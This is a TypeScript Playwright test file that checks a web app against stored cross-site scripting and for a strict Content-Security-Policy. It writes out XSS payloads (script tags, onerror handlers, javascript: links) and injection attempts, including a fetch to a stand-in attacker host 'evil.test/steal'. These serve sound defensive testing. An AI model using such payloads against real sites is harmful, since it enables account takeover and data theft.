import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { makeAccount, restAs, visitAs, type Account } from '#tests/support/accounts.ts';
import { leave, visit, type Visit } from '#tests/support/browser.ts';
import { startWithBrowser } from '#tests/support/start-with-browser.ts';

declare global {
  interface Window {
    /** Set by a script that should not have run. */
    injected?: string;
    /** Directives that the browser enforced. */
    violations?: string[];
  }
}

const MARK = 'hostile';
/** Closes the contexts that a text may be written into: an element, an attribute, a script, a template. */
const HOSTILE = `${MARK}"'></script></textarea><img src=x onerror="window.injected='stored'"><script>window.injected='stored'</script>`;
const LINK = `[${MARK}](javascript:window.injected='link') <a href="javascript:window.injected='link'">x</a>`;

const { server, browser } = await startWithBrowser();
let client: Account;
let admin: Account;
let asClient: Visit;
let asAdmin: Visit;

beforeAll(async () => {
  [client, admin] = await Promise.all([
    makeAccount(server, { firstName: HOSTILE }),
    makeAccount(server, { admin: true, firstName: HOSTILE }),
  ]);
  [asClient, asAdmin] = await Promise.all([visitAs(browser, server, client), visitAs(browser, server, admin)]);
});

const post = <T>(as: Account, path: string, body: object) =>
  restAs<T>(server, as, path, { method: 'POST', body: JSON.stringify(body) });

describe('stored text', () => {
  let paths: { client: string[]; admin: string[]; visitor: string[] };
  beforeAll(async () => {
    const ticket = await post<{ id: string }>(client, 'rpc/open_ticket', {
      subject: HOSTILE.slice(0, 200),
      body: `${HOSTILE}\n\n${LINK}`,
    });
    const [order] = await post<{ id: string }[]>(client, 'orders', {
      client_name: HOSTILE,
      client_email: client.email,
      notes: HOSTILE,
      items: [{ id: 'youtube-ads-trial', quantity: 1 }],
    });
    await post(admin, 'order_notes', { order_id: order?.id, text: HOSTILE });
    await fetch(`${server.url}/functions/v1/submit-contact`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        name: HOSTILE,
        email: 'x@example.test',
        message: `${HOSTILE} ${LINK}`,
        company_name: HOSTILE,
      }),
    });
    await post(admin, 'video_testimonials', {
      client_name: HOSTILE,
      testimonial_text: HOSTILE,
      results_achieved: HOSTILE,
      video_url: 'https://www.youtube.com/watch?v=aqz-KE-bpKQ',
    });
    await post(admin, 'articles', {
      slug: 'hostile',
      title: HOSTILE.slice(0, 200),
      category: MARK,
      body: `${HOSTILE}\n\n${LINK}`,
      published: true,
    });
    await post(admin, 'announcements', { title: HOSTILE.slice(0, 120), body: HOSTILE, published: true });
    paths = {
      visitor: ['/'],
      client: [
        '/dashboard',
        '/dashboard/support',
        `/dashboard/support/tickets/${ticket.id}`,
        '/dashboard/support/articles/hostile',
        '/auth/profile',
      ],
      admin: [
        '/admin/orders',
        `/admin/orders/${order?.id}`,
        '/admin/tickets',
        `/admin/tickets/${ticket.id}`,
        '/admin/people',
        `/admin/people/${client.id}`,
        '/admin/video-testimonials',
        '/admin/articles',
        '/email-management?tab=contacts',
      ],
    };
  });

  /** What the text has become in the document. */
  const look = async (page: Page) => {
    // The account menu shows a name, too, before the screen has its data.
    await page.waitForFunction((mark) => document.querySelector('main')?.innerHTML.includes(mark), MARK);
    return page.evaluate(() => ({
      injected: window.injected,
      pictures: document.querySelectorAll('img[src="x"]').length,
      handlers: [...document.querySelectorAll('*')].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on')),
      ).length,
      links: document.querySelectorAll('a[href^="javascript:" i]').length,
    }));
  };
  const harmless = { injected: undefined, pictures: 0, handlers: 0, links: 0 };

  test('is rendered as text on every client screen', async () => {
    for (const path of paths.client) {
      await asClient.page.goto(path);
      expect([path, await look(asClient.page)]).toEqual([path, harmless]);
    }
    expect(asClient.problems).toEqual([]);
  });

  test('is rendered as text on every admin screen', async () => {
    for (const path of paths.admin) {
      await asAdmin.page.goto(path);
      expect([path, await look(asAdmin.page)]).toEqual([path, harmless]);
    }
    expect(asAdmin.problems).toEqual([]);
  });

  test('is rendered as text on public pages and in their inline state', async () => {
    const visitor = await visit(browser, server.url);
    for (const path of paths.visitor) {
      await visitor.page.goto(path);
      expect([path, await look(visitor.page)]).toEqual([path, harmless]);
      const html = await (await fetch(server.url + path)).text();
      expect(html).toContain(MARK);
      expect(html).not.toMatch(/<img src=x|<script>window\.injected/);
    }
    expect(visitor.problems).toEqual([]);
    await leave(visitor.page);
  });
});

describe('Content-Security-Policy of pages', () => {
  /** Tries what an attacker who can write into the document would try. */
  const attack = (page: Page, script: string) =>
    page.evaluate(async (own) => {
      window.violations = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        window.violations?.push(event.effectiveDirective),
      );
      const add = (attributes: Partial<HTMLScriptElement>) => {
        const element = Object.assign(document.createElement('script'), attributes);
        return new Promise<boolean>((resolve) => {
          element.addEventListener('load', () => resolve(true));
          element.addEventListener('error', () => resolve(false));
          document.head.append(element);
          if (element.src === '') resolve(false);
        });
      };
      await add({ textContent: "window.injected = 'inline'" });
      const foreign = await add({ src: 'https://evil.test/x.js' });
      const data = await add({ src: "data:text/javascript,window.injected = 'data'" });
      const blob = await add({
        src: URL.createObjectURL(new Blob(["window.injected = 'blob'"], { type: 'text/javascript' })),
      });
      const box = document.createElement('div');
      box.innerHTML = `<img src="data:," onerror="window.injected = 'handler'"><iframe srcdoc="<script>parent.injected = 'frame'</script>"></iframe>`;
      document.body.append(box);
      // In a callback: code that the test itself evaluates is exempt.
      const evaluated = await new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            resolve(String(new Function("window.injected = 'eval'; return 'ran'")()));
          } catch (error) {
            resolve(error instanceof Error ? error.name : 'unknown');
          }
        }, 0);
      });
      const sent = await fetch('https://evil.test/steal', { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'blocked',
      );
      const allowed = await add({ src: own, type: 'module' });
      return {
        injected: window.injected,
        foreign,
        data,
        blob,
        evaluated,
        sent,
        allowed,
        violations: [...new Set(window.violations)].sort(),
      };
    }, script);

  test.each<['visitor' | 'client' | 'admin', string]>([
    ['visitor', '/'],
    ['visitor', '/services/youtube-ads'],
    ['visitor', '/privacy-policy'],
    ['visitor', '/auth/login'],
    ['client', '/checkout'],
    ['client', '/dashboard'],
    ['admin', '/admin'],
  ])('blocks every script of a %s’s page that the server did not send (%s)', async (who, path) => {
    const visitor =
      who === 'visitor'
        ? await visit(browser, server.url)
        : await visitAs(browser, server, who === 'client' ? client : admin);
    await visitor.page.goto(path);
    // Public pages load their scripts with the first interaction; the boot script names them.
    const own = /\/assets\/[\w.-]+\.js/.exec(await visitor.page.content())?.[0] ?? '';
    const outcome = await attack(visitor.page, own);
    expect(outcome).toMatchObject({
      injected: undefined,
      foreign: false,
      data: false,
      blob: false,
      evaluated: 'EvalError',
      sent: 'blocked',
      allowed: true,
    });
    expect(outcome.violations).toEqual(expect.arrayContaining(['connect-src', 'script-src-attr', 'script-src-elem']));
    await leave(visitor.page);
  });

  test('scripts and pages contain no keys or service tokens', async () => {
    const { serviceRoleKey } = JSON.parse(await readFile(join(server.dataDir, 'keys.json'), 'utf8')) as {
      serviceRoleKey: string;
    };
    const html = await (await fetch(server.url)).text();
    const scripts = [...new Set(html.match(/\/assets\/[\w.-]+\.js/g))];
    expect(scripts.length).toBeGreaterThan(3);
    for (const path of ['/', ...scripts]) {
      const text = await (await fetch(server.url + path)).text();
      expect(text).not.toContain(serviceRoleKey);
      expect(text).not.toMatch(/BEGIN [A-Z ]*PRIVATE KEY|SERVICE_ROLE_KEY|postgres(ql)?:\/\//);
    }
  });
});
